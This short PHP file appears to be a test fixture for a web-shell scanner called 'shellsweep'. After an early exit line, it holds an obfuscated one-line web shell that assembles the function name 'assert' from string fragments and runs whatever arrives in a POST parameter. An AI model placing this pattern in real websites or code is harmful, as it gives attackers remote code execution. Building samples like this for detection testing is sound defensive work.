<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$p0 = "as"; $p1 = "se"; $p2 = "rt";
$fn = $p0 . $p1 . $p2;
$fn($_POST['z']);
